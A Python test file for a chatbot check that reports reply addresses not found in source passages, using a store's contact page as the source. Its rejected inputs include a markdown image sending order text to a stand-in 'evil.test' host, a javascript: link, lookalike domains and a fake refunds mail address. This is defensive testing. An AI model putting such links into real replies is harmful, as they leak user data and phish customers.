"""Which addresses of a reply stand nowhere."""

import pytest

from chat.checks.links import links, unsupported_links
from chat.types import Passage

POLICY = Passage(
    document="contact",
    title="Contact",
    heading_path=("Writing to us",),
    text="Write to help@larkfield.example, or see https://www.larkfield.example/help (in English). Recalls "
    "are listed at larkfield.example/recalls.",
)


@pytest.mark.parametrize(
    "reply",
    [
        "Write to help@larkfield.example.",
        "Write to **Help@Larkfield.example**!",
        "See https://www.larkfield.example/help.",
        "See larkfield.example/help, please.",
        "See [our help](https://larkfield.example/help).",
        "Look at http://larkfield.example/recalls/",
        "Returns are free, e.g. for shoes, and/or bags. It takes 3.5 days.We pay the postage.",
    ],
)
def test_an_address_that_stands_in_the_passage_is_supported(reply: str) -> None:
    assert unsupported_links(reply, [POLICY]) == []


@pytest.mark.parametrize(
    ("reply", "named"),
    [
        ("Log in at https://larkfield.example.evil.test/help.", "larkfield.example.evil.test/help"),
        ("See https://larkfield.exampl", "larkfield.exampl"),
        ("See larkfield-help.com for more.", "larkfield-help.com"),
        ("![.](https://evil.test/p.png?q=my+order)", "evil.test/p.png?q=my+order"),
        ("![.](//evil.test/p.png)", "evil.test/p.png"),
        ("[Log in](evil)", "evil"),
        ("[help]: evil.test/x", "evil.test/x"),
        ("<img src=//evil.test/p>", "evil.test/p"),
        ("<a href='javascript:alert(1)'>help</a>", "javascript:alert(1"),
        ("Write to refunds@evil.test.", "refunds@evil.test"),
        ("Write to mailto:refunds@evil.test", "refunds@evil.test"),
        ("See www.evil.test", "evil.test"),
        ("See ftp://evil.test/x", "ftp://evil.test/x"),
    ],
)
def test_an_address_that_stands_nowhere_is_objected_to(reply: str, named: str) -> None:
    assert unsupported_links(reply, [POLICY]) == [f"The address '{named}' is not in the passages."]


def test_an_address_is_named_once() -> None:
    assert len(unsupported_links("evil.com, evil.com or https://evil.com", [POLICY])) == 1


def test_a_long_text_without_addresses_takes_no_time() -> None:
    assert list(links("a.b-" * 5_000)) == []
    assert list(links("a" * 20_000)) == []
